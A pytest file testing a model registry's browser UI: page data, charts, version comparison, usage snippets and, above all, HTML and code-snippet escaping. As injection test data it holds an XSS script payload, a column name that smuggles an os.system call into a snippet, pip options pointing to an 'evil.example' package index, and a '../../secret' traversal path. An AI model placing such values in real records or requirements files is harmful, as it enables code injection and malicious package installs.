"""The model browser's page data (fsregistry.ui.pages) and its HTML escaping (render, markup)."""

from __future__ import annotations

import json
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from ui_demo import (
    CHURN_ACCURACY,
    HOSTILE_COLUMN,
    HOSTILE_IMG,
    HOSTILE_METRIC,
    HOSTILE_SCRIPT,
    HOSTILE_TAG,
    MODEL_DESCRIPTION,
    PRICE_RMSE,
    build_demo_registry,
)

from fsregistry import CustomModelRegistry, ModelNotFoundError
from fsregistry.ui import assets, compare, data, details, lineage, pages, render, tabledata, usage
from fsregistry.ui.charts import BOTTOM, HEIGHT, MAX_LINE_POINTS, MAX_MARKED, TOP, metric_chart
from fsregistry.ui.links import Links
from fsregistry.ui.markup import (
    Safe,
    breakable,
    element,
    epoch_minutes,
    esc,
    join,
    json_block,
    short_time,
    size,
    table,
    when,
)
from fsregistry.ui.metrics import metric_text, rank_metrics


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> CustomModelRegistry:
    """Shared, read-only demo registry (tests that change it build their own)."""
    return build_demo_registry(tmp_path_factory.mktemp("ui") / "registry")


# -- page data -----------------------------------------------------------------------------------


def test_models_page_lists_every_model_with_stages_aliases_and_search_text(demo: CustomModelRegistry) -> None:
    page = pages.models_page(demo)
    assert page.root == str(demo.root)
    assert [m.name for m in page.models] == ["churn", "price-forecast"]
    churn = page.models[0]
    assert churn.versions == 3 and churn.latest_version == 3
    assert churn.stages == {"Production": 2, "Staging": 3}
    assert churn.aliases == {"champion": 2, "challenger": 3}
    assert churn.description == MODEL_DESCRIPTION
    assert churn.latest_tags["note"] == HOSTILE_TAG
    # the search text carries the name and every version's tags, lower-cased
    assert "churn" in churn.search_text and "team=growth" in churn.search_text
    assert f"note={HOSTILE_TAG}" in churn.search_text
    newest = max(v["created_at"] for v in demo.list_versions("churn"))
    assert churn.updated_at >= newest  # the promotions came after the last save


def test_model_page_versions_newest_first_and_one_chart_point_per_version(demo: CustomModelRegistry) -> None:
    page = pages.model_page(demo, "churn")
    assert [v.version for v in page.versions] == [3, 2, 1]
    assert [v.stage for v in page.versions] == ["Staging", "Production", "Archived"]
    assert page.versions[1].aliases == ["champion"]
    assert page.versions[0].flavor == "sklearn" and page.versions[0].size > 0
    assert set(page.key_metrics) == {"accuracy", HOSTILE_METRIC}
    accuracy = next(c for c in page.charts if c.name == "accuracy")
    assert accuracy.points == sorted(CHURN_ACCURACY.items())
    assert accuracy.production == 2


def test_model_page_of_a_missing_model_is_not_found(demo: CustomModelRegistry) -> None:
    with pytest.raises(ModelNotFoundError):
        pages.model_page(demo, "no-such-model")


def test_metric_series_skips_values_that_cannot_be_charted() -> None:
    rows = [
        data.VersionRow(
            version=v,
            stage=None,
            aliases=[],
            tags={},
            created_at="",
            flavor=None,
            model_class=None,
            size=0,
            metrics={"m": value},
            description="",
        )
        for v, value in [(1, 0.5), (2, True), (3, float("nan")), (4, "high"), (5, 2)]
    ]
    assert pages.metric_series(rows, "m").points == [(1, 0.5), (5, 2.0)]


def test_version_page_shows_everything_about_a_version(demo: CustomModelRegistry) -> None:
    page = pages.version_page(demo, "churn", 3)
    assert (page.name, page.version, page.stage, page.aliases) == ("churn", 3, "Staging", ["challenger"])
    assert page.tags["note"] == HOSTILE_TAG and page.description == HOSTILE_IMG
    assert page.metrics["accuracy"] == CHURN_ACCURACY[3] and page.params["fold"] == "3"
    assert [c.name for c in page.signature or []] == ["age", "spend"]
    assert page.example_columns == ["age", "spend"] and page.example_total_rows == 3
    assert page.example_rows[0][0].isdigit()  # an integer column stays an integer
    assert [f.status for f in page.files] == ["verified"]
    assert page.files[0].sha256 == demo.get_model_version("churn/3")["files"]["model.bin"]["sha256"]
    assert not any(row.mismatch for row in page.environment)
    assert {"Python", "numpy", "scikit-learn"} <= {row.item for row in page.environment}
    assert [(e.previous, e.stage) for e in page.history] == [(None, "Staging")]


def test_identifiers_are_exactly_those_that_resolve_to_the_version(demo: CustomModelRegistry) -> None:
    run_id = demo.get_model_version("churn/2")["run_id"]
    uris = [i.uri for i in pages.version_page(demo, "churn", 2, verify_files=False).identifiers]
    assert uris == ["models:/churn/2", "models:/churn/Production", "models:/churn@champion", f"runs:/{run_id}/model"]
    newest = [i.uri for i in pages.version_page(demo, "churn", 3, verify_files=False).identifiers]
    assert "models:/churn/latest" in newest and "models:/churn/Staging" in newest
    for uri in uris + newest:
        assert demo.resolve(uri)[0] == "churn"


def test_file_rows_report_a_flipped_byte_and_a_missing_file(tmp_path: Path) -> None:
    registry = CustomModelRegistry(tmp_path / "r")
    registry.save_model({"weights": [1, 2, 3]}, "m", preprocessor_artifact={"scale": 2})
    folder = registry.version_path("m/1")
    data = bytearray((folder / "model.bin").read_bytes())
    data[-1] ^= 0xFF
    (folder / "model.bin").write_bytes(bytes(data))
    (folder / "preprocessor.pkl").unlink()
    rows = {r.name: r for r in pages.version_page(registry, "m", 1).files}
    assert rows["model.bin"].status == "mismatch" and (
        "BLAKE3" in rows["model.bin"].detail or "SHA-256" in rows["model.bin"].detail
    )
    assert rows["preprocessor.pkl"].status == "missing"
    assert {r.status for r in pages.version_page(registry, "m", 1, verify_files=False).files} == {"unchecked"}


def test_file_rows_never_follow_a_recorded_name_out_of_the_version_folder(tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("x")

    class Fake:
        root = tmp_path

        def version_path(self, ident: str) -> Path:
            return tmp_path / "m" / "1"

    info = {"name": "m", "version": 1, "files": {"../../secret": {"sha256": "0" * 64, "size": 1}}}
    rows = details.file_rows(Fake(), info, verify=True)  # type: ignore[arg-type]
    assert [(r.name, r.status) for r in rows] == [("../../secret", "refused")]


def test_environment_rows_flag_exactly_the_differences_a_load_warns_about() -> None:
    saved = {"python": "2.7.0", "platform": "elsewhere", "packages": {"numpy": "0.0.1", "pandas": None}}
    rows = {r.item: r for r in details.environment_rows(saved)}
    assert rows["Python"].mismatch and rows["Platform"].mismatch
    assert rows["numpy"].mismatch and rows["numpy"].saved == "0.0.1" and rows["numpy"].now == np.__version__
    assert not rows["pandas"].mismatch  # recorded as absent at save time: not compared
    assert "Machine" not in rows  # not recorded, not shown


def test_stage_events_fall_back_to_the_current_stage_without_history() -> None:
    info = {"version": 4, "stage": "Production", "stage_history": [], "created_at": "2026-01-01T00:00:00+00:00"}
    [event] = pages.stage_events(info)
    assert (event.stage, event.recorded, event.at) == ("Production", False, info["created_at"])
    assert pages.stage_events({"version": 1, "stage": None, "stage_history": []}) == []


def test_history_page_merges_every_versions_transitions_newest_first(demo: CustomModelRegistry) -> None:
    page = pages.history_page(demo, "churn")
    assert [(e.version, e.previous, e.stage) for e in page.events][-1] == (1, None, "Production")
    assert (1, "Production", "Archived") in [(e.version, e.previous, e.stage) for e in page.events]
    assert [e.at for e in page.events] == sorted((e.at for e in page.events), reverse=True)


def test_example_table_reads_frames_and_arrays() -> None:
    columns, rows, total = details.example_table(pd.DataFrame({"a": [1, 2], "b": ["x", None]}))
    assert (columns, rows, total) == (["a", "b"], [["1", "x"], ["2", ""]], 2)
    columns, rows, total = details.example_table(np.arange(6).reshape(3, 2))
    assert (columns, rows[0], total) == (["0", "1"], ["0", "1"], 3)
    assert details.example_table(None) == ([], [], 0)


# -- escaping ------------------------------------------------------------------------------------


class _Audit(HTMLParser):
    """Collects what a browser would run: script elements and on* handler attributes;
    and the JSON data blocks, which it never runs."""

    def __init__(self) -> None:
        super().__init__()
        self.scripts: list[str] = []
        self.data_blocks: list[str] = []
        self.handlers: list[tuple[str, str]] = []
        self.urls: list[tuple[str, str, str]] = []
        self.text: list[str] = []
        self._in_script: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handlers += [(tag, name) for name, _ in attrs if name.startswith("on")]
        self.urls += [
            (tag, name, value or "")
            for name, value in attrs
            if name in ("href", "src", "srcset", "action", "formaction", "data", "poster", "xlink:href")
        ]
        if tag == "script":
            kind = dict(attrs).get("type")
            self._in_script = self.data_blocks if kind == "application/json" else self.scripts
            self._in_script.append("")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = None

    def handle_data(self, data: str) -> None:
        if self._in_script is not None:
            self._in_script[-1] += data
        else:
            self.text.append(data)


def _audit(html: str) -> _Audit:
    audit = _Audit()
    audit.feed(html)
    audit.close()
    return audit


def _all_pages(registry: CustomModelRegistry) -> dict[str, str]:
    root = str(registry.root)
    links = Links()
    out = {
        "models": render.models_page(pages.models_page(registry), links),
        "search": render.search_page(pages.search_page(registry), links, root=root),
    }
    for name in ("churn", "price-forecast"):
        out[name] = render.model_page(pages.model_page(registry, name), links, root=root)
        out[f"{name} history"] = render.history_page(pages.history_page(registry, name), links, root=root)
        out[f"{name} compare"] = render.compare_page(pages.compare_page(registry, name), links, root=root)
        for v in pages.model_page(registry, name).versions:
            page = pages.version_page(registry, name, v.version)
            out[f"{name}/{v.version}"] = render.version_page(page, links, root=root)
    return out


def _data(html: str) -> Any:
    """The page's JSON data block, parsed (as the page's script reads it)."""
    [block] = _audit(html).data_blocks
    return json.loads(block)


def test_no_user_written_value_becomes_markup_on_any_page(demo: CustomModelRegistry) -> None:
    for where, html in _all_pages(demo).items():
        audit = _audit(html)
        assert audit.scripts == [assets.SCRIPT], where  # only the page's own script runs
        assert audit.handlers == [], where
        for block in audit.data_blocks:  # data for the script: no "<" can close it or start markup
            assert "<" not in block and ">" not in block and "&" not in block, where
            json.loads(block)
        for hostile in (HOSTILE_TAG, HOSTILE_SCRIPT, HOSTILE_IMG, HOSTILE_METRIC, HOSTILE_COLUMN):
            assert hostile not in html, (where, hostile)


def test_hostile_values_are_shown_as_text(demo: CustomModelRegistry) -> None:
    html = _all_pages(demo)
    text = {where: "".join(_audit(page).text) for where, page in html.items()}
    assert HOSTILE_TAG in text["churn/3"] and HOSTILE_IMG in text["churn/3"]
    assert f"note={HOSTILE_TAG}" in text["models"] and MODEL_DESCRIPTION in text["models"]
    assert HOSTILE_METRIC in text["churn"]
    assert HOSTILE_COLUMN in text["price-forecast/1"]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html["churn/3"]
    # in the data the script draws from, the same values arrive intact (it sets them as text)
    data = _data(html["churn"])
    assert HOSTILE_METRIC in data["metrics"] and data["tagsets"][0]["note"] == HOSTILE_TAG


def test_every_page_loads_nothing_from_anywhere(demo: CustomModelRegistry) -> None:
    for where, html in _all_pages(demo).items():
        audit = _audit(html)
        assert not [a for a in audit.urls if a[1] != "href"], where  # no src=, action=, ...
        for tag, _, url in audit.urls:
            assert url == "data:," if tag == "link" else url.startswith("/") and not url.startswith("//"), url
        assert assets.CONTENT_SECURITY_POLICY.replace("'", "&#x27;") in html, where


def test_markup_helpers_escape_everything_but_safe_markup() -> None:
    assert esc('<a href="x">&') == "&lt;a href=&quot;x&quot;&gt;&amp;"
    assert esc(Safe("<b>ok</b>")) == "<b>ok</b>"
    assert esc(None) == ""
    assert (
        element("span", "<i>", title='"q"', data_x=1, hidden=True, class_=None)
        == '<span title="&quot;q&quot;" data-x="1" hidden>&lt;i&gt;</span>'
    )
    assert join(["<", Safe("<br>")]) == "&lt;<br>"
    cells = table(["<h>"], [["<c>"]])
    assert "&lt;h&gt;" in cells and "&lt;c&gt;" in cells and "<c>" not in cells
    assert "Nothing recorded." in table(["a"], [])


def test_small_formatters() -> None:
    assert size(None) == "—" and size(512) == "512 B" and size(1536) == "1.5 KiB" and size(3 * 1024**3) == "3.0 GiB"
    assert ">2026-01-02 03:04:05 UTC<" in when("2026-01-02T03:04:05.123+00:00")
    assert when("not a time").endswith(">not a time</time>")


def test_chart_has_one_point_per_version_and_marks_production() -> None:
    series = data.MetricSeries("<m>", [(1, 0.5), (2, 0.7), (5, 0.6)], production=2)
    svg = metric_chart(series)
    assert svg.count("<circle") == 3
    assert 'data-version="2"' in svg and svg.count("point production") == 1
    assert "<m>" not in svg and "&lt;m&gt;" in svg
    flat = metric_chart(data.MetricSeries("flat", [(1, 1.0)]))
    assert flat.count("<circle") == 1 and "nan" not in flat
    assert metric_chart(data.MetricSeries("none", [])) == ""


def test_page_data_is_json_friendly(demo: CustomModelRegistry) -> None:
    """Page data is plain values (a later JSON endpoint or CLI output can reuse it)."""
    from dataclasses import asdict

    page: Any = pages.version_page(demo, "churn", 2)
    json.dumps(asdict(page))
    json.dumps(asdict(pages.models_page(demo)))


# -- metrics: order and rounding -----------------------------------------------------------------


def test_metric_text_rounds_every_metric_the_same_way() -> None:
    assert metric_text(0.7762597335312292) == "0.7763"
    assert metric_text(0.86) == "0.86" and metric_text(0.1 + 0.2) == "0.3"
    assert metric_text(12345.6) == "12350" and metric_text(-0.000123456) == "-0.0001235"
    assert metric_text(1999) == "1999" and metric_text(1999.0) == "1999" and metric_text(0.0) == "0"
    assert metric_text(1.5e-7) == "1.500e-07" and metric_text(float("nan")) == "nan"
    assert metric_text(True) == "True" and metric_text("high") == "high"


def test_metric_columns_put_held_out_quality_first_and_bookkeeping_last() -> None:
    counts = dict.fromkeys(["epoch", "learning_rate", "n_rows", "train_loss", "val_roc_auc", "val_loss", "custom"], 10)
    order = rank_metrics(counts)
    assert order[:2] == ["val_loss", "val_roc_auc"]  # alphabetical order used to show epoch and cut these
    assert order.index("train_loss") < order.index("custom") < order.index("epoch")
    assert set(order[-3:]) == {"epoch", "learning_rate", "n_rows"}
    rare = rank_metrics({"val_auc": 1, "loss": 10})
    assert rare == ["loss", "val_auc"]  # recorded by most versions first


# -- search, tables, data blocks -----------------------------------------------------------------


def test_models_search_text_covers_description_stage_alias_flavor_and_metric_ranges(demo: CustomModelRegistry) -> None:
    churn = pages.models_page(demo).models[0]
    for term in ("predicts churn", "stage=production", "stage=staging", "@champion", "flavor=sklearn", "team=growth"):
        assert term in churn.search_text, term
    assert "logisticregression" in churn.search_text  # the model class, too
    assert churn.metric_ranges["accuracy"] == (min(CHURN_ACCURACY.values()), max(CHURN_ACCURACY.values()))
    assert churn.tags == {} and churn.latest_tags["team"] == "growth"  # model tags and version tags kept apart


def test_versions_table_data_is_compact_and_complete(demo: CustomModelRegistry) -> None:
    page = pages.model_page(demo, "churn")
    table_data = tabledata.versions_table(page, Links())
    assert table_data["metrics"] == page.metric_names and table_data["shown"] == len(page.key_metrics)
    assert table_data["href"] == ["/models/churn/versions/", ""]
    assert Links.exported(2).version_pattern("a b") == ("../../models/a%20b/versions/", ".html")
    rows = {r[0]: r for r in table_data["rows"]}
    assert sorted(rows) == [1, 2, 3]
    v2 = rows[2]
    assert table_data["stages"][v2[1]] == "Production" and v2[2] == ["champion"]
    assert table_data["tagsets"][v2[3]] == {"team": "growth"} and table_data["flavors"][v2[5]] == "sklearn"
    created = demo.get_model_version("churn/2")["created_at"]
    assert v2[4] == epoch_minutes(created) and short_time(created) in when(created, short=True).replace(
        '</span> <span class="t">', " "
    )
    accuracy = v2[8][table_data["metrics"].index("accuracy")]
    assert accuracy == CHURN_ACCURACY[2]


def test_a_json_block_cannot_be_closed_by_a_value() -> None:
    block = json_block({"x": "</script><script>alert(1)</script> & \u2028"})
    assert block.count("</script>") == 1 and block.endswith("</script>")
    assert "\\u003c/script\\u003e" in block and "\\u2028" in block and "&" not in block.split(">", 1)[1]
    assert json.loads(block.split(">", 1)[1].rsplit("<", 1)[0]) == {"x": "</script><script>alert(1)</script> & \u2028"}


def test_breakable_names_wrap_at_their_words_and_stay_escaped() -> None:
    assert breakable("val_roc.auc-x/y") == "val_<wbr>roc.<wbr>auc-<wbr>x/<wbr>y"
    assert breakable("<b>_") == "&lt;b&gt;_"


def test_search_page_lists_every_version_of_every_model(demo: CustomModelRegistry) -> None:
    page = pages.search_page(demo)
    assert page.models == ["churn", "price-forecast"]
    assert [(m, r.version) for m, r in page.rows] == [
        ("churn", 3),
        ("churn", 2),
        ("churn", 1),
        ("price-forecast", 2),
        ("price-forecast", 1),
    ]
    search = tabledata.search_table(page, Links.exported(0))
    assert search["models"][1] == [
        "price-forecast",
        "models/price-forecast/index.html",
        "models/price-forecast/versions/",
        ".html",
    ]
    assert search["metrics"][1] == ["rmse"] and search["rows"][-1][-1] == [PRICE_RMSE[1]]


# -- comparing versions --------------------------------------------------------------------------


def test_compare_page_reads_the_versions_asked_for_and_reports_the_rest(demo: CustomModelRegistry) -> None:
    page = pages.compare_page(demo, "churn", [2, 3, 99, 2])
    assert page.requested == [2, 3, 99] and [e["version"] for e in page.entries] == [2, 3]
    assert [c.version for c in page.choices] == [3, 2, 1] and page.production == 2
    v2, v3 = page.entries
    assert v2["metrics"]["accuracy"] == CHURN_ACCURACY[2] and v3["tags"]["note"] == HOSTILE_TAG
    assert (
        v2["signature"]
        == v3["signature"]
        == {"age": "int64 (integer)", "spend": "float64 (float)", "input type": "dataframe"}
    )
    assert v2["files"]["model.bin"][1] == demo.get_model_version("churn/2")["files"]["model.bin"]["sha256"]
    assert v2["environment"]["numpy"] == np.__version__ and v2["stage"] == "Production"
    everything = pages.compare_page(demo, "churn")  # a static export: every version
    assert [e["version"] for e in everything.entries] == [3, 2, 1]


def test_compare_stores_repeated_sections_once() -> None:
    entries = [
        {"version": v, "environment": {"numpy": "2"}, "signature": None, "params": {"C": str(v)}, "tags": {}}
        for v in (1, 2, 3)
    ]
    packed = compare.shared(entries)
    assert packed["shared"]["environment"] == [{"numpy": "2"}] and len(packed["shared"]["params"]) == 3
    assert [e["environment"] for e in packed["entries"]] == [0, 0, 0] and entries[0]["environment"] == {"numpy": "2"}


def test_compare_shows_at_most_a_readable_number_of_versions(tmp_path: Path) -> None:
    registry = CustomModelRegistry(tmp_path / "r")
    for i in range(compare.MAX_VERSIONS + 2):
        registry.save_model({"w": i}, "m")
    page = pages.compare_page(registry, "m", range(1, compare.MAX_VERSIONS + 3))
    assert len(page.entries) == compare.MAX_VERSIONS


# -- how to use a version, and where it came from ------------------------------------------------


def test_usage_snippets_name_the_version_exactly_and_pin_its_packages(demo: CustomModelRegistry) -> None:
    page = pages.version_page(demo, "churn", 3, verify_files=False)
    snippets = {s.title: s for s in page.usage}
    root = json.dumps(str(demo.root))
    assert f"CustomModelRegistry({root})" in snippets["Load the model"].text
    assert 'registry.load_model("models:/churn/3")' in snippets["Load the model"].text
    predictor = snippets["Predict with ModelPredictor"].text
    assert "ModelPredictor(" in predictor and "predictor.predict(frame)" in predictor
    assert predictor.endswith('# a DataFrame with columns "age", "spend"')
    assert snippets["Predict a CSV or Parquet file"].text.startswith(
        f"fsregistry --root {demo.root} predict models:/churn/3 "
    )
    requirements = snippets["Requirements (as saved)"].text.splitlines()
    assert requirements[0].startswith("# saved with Python") and f"numpy=={np.__version__}" in requirements
    hidden = usage.snippets(demo.get_model_version("churn/3"), root=None)
    assert all(str(demo.root) not in s.text for s in hidden) and usage.PLACEHOLDER_ROOT in hidden[0].text
    odd = usage.snippets({"name": "m", "version": 1, "environment": {}}, root="/tmp/it's here")
    assert "--root '/tmp/it'\"'\"'s here'" in odd[2].text and len(odd) == 3  # quoted; no requirements recorded


def test_usage_snippets_stay_what_they_look_like_whatever_a_record_holds() -> None:
    """A column name cannot end the predict snippet's comment, and a package "name" or
    version from an edited bundle cannot add a pip option to the requirements."""
    from types import SimpleNamespace

    hostile = "a\nimport os; os.system('touch /tmp/x')  #"
    signature = SimpleNamespace(inputs=[SimpleNamespace(name=hostile)])  # a Signature's shape
    environment = {
        "python": "3.11\n--index-url http://evil.example",
        "packages": {
            "numpy": "2.4.6",
            "--extra-index-url http://evil.example/simple\nevilpkg": "1",
            "pandas": "3.1.1\n--trusted-host evil.example",
            "scikit-learn": "1.9.1",
        },
    }
    info = {"name": "m", "version": 1, "signature": signature, "environment": environment}
    found = {s.title: s.text for s in usage.snippets(info, root="/r")}
    predict = found["Predict with ModelPredictor"]
    assert len(predict.splitlines()) == 5 and "os.system" not in predict.splitlines()[-1].split("#", 1)[0]
    accented = usage.snippets({**info, "signature": SimpleNamespace(inputs=[SimpleNamespace(name="Größe")])}, root="/r")
    assert accented[1].text.endswith('# a DataFrame with columns "Größe"')  # shown as written
    assert found["Requirements (as saved)"].splitlines() == [
        "# saved with Python 3.11 --index-url http://evil.example",
        "numpy==2.4.6",
        "scikit-learn==1.9.1",
    ]


def test_lineage_of_an_imported_version_is_labelled_and_can_hide_paths(tmp_path: Path) -> None:
    origin = CustomModelRegistry(tmp_path / "origin")
    origin.save_model({"w": 1}, "m", stage="Production", aliases=["best"])
    bundle = origin.export_model("m/1", tmp_path / "handover.tar.gz")
    here = CustomModelRegistry(tmp_path / "here")
    here.import_model(bundle)
    info = here.get_model_version("m/1")
    shown = {r.label: r for r in lineage.rows(info)}
    assert shown["Imported from"].value == str(bundle.resolve()) and shown["Imported at"].kind == "time"
    assert shown["Stage there"].value == "Production" and shown["Aliases there"].value == "@best"
    assert shown["Exported from registry"].value == str(origin.root)
    assert "Production" in shown["Stage history there"].value and "{" not in shown["Stage history there"].value
    hidden = lineage.rows(info, show_paths=False)
    values = " ".join(r.value for r in hidden)
    assert str(tmp_path) not in values and info["source"]["exported_by"]["host"] not in values.split()
    assert {r.label: r for r in hidden}["Imported from"].value.startswith("handover.tar.gz")
    assert not any(r.value.startswith(("{", "[")) for r in hidden)  # no raw JSON
    assert [r.label for r in lineage.rows(here.get_model_version("m/1") | {"source": None})][-1] == "Origin"


def test_version_title_has_no_dangling_dash_without_a_stage(demo: CustomModelRegistry) -> None:
    page = pages.version_page(demo, "price-forecast", 1, verify_files=False)
    html = render.version_page(page, Links(), root="")
    title = html.split("<h1>", 1)[1].split("</h1>", 1)[0]
    assert "—" not in title and "v1" in title
    assert page.previous is None and pages.version_page(demo, "price-forecast", 2, verify_files=False).previous == 1
    v3 = render.version_page(pages.version_page(demo, "churn", 3, verify_files=False), Links(), root="")
    assert 'href="/models/churn/compare?v=2&amp;v=3"' in v3  # compare with Production, and with the previous


# -- charts --------------------------------------------------------------------------------------


def _series(count: int, production: int | None = None) -> data.MetricSeries:
    return data.MetricSeries("m", [(v, 0.5 + ((v * 7919) % 101) / 1000) for v in range(1, count + 1)], production)


def test_a_chart_marks_each_version_up_to_a_limit_and_links_it() -> None:
    svg = metric_chart(_series(MAX_MARKED, production=3), Links(), "a b")
    assert svg.count("<circle") == MAX_MARKED and svg.count('<a href="/models/a%20b/versions/') == MAX_MARKED
    assert "data-hover" not in svg


def test_a_chart_of_many_versions_draws_a_thinned_line_and_marks_only_production() -> None:
    series = _series(2000, production=1500)
    svg = metric_chart(series, Links(), "m")
    assert svg.count("<circle") == 1 and 'data-version="1500"' in svg and "data-hover" in svg
    points = svg.split('fill="none" points="', 1)[1].split('"', 1)[0].split()
    assert len(points) <= MAX_LINE_POINTS + 2
    ys = [float(p.split(",")[1]) for p in points]
    values = [v for _, v in series.points]
    pad = (max(values) - min(values)) * 0.08
    low, high = min(values) - pad, max(values) + pad

    def y(value: float) -> float:
        return TOP + (high - value) / (high - low) * (HEIGHT - TOP - BOTTOM)

    # the highest and the lowest value survive the thinning (whole units in a dense line)
    assert min(ys) == round(y(max(values))) and max(ys) == round(y(min(values)))
    assert len(svg) < 12_000  # 2,000 versions, a few KB
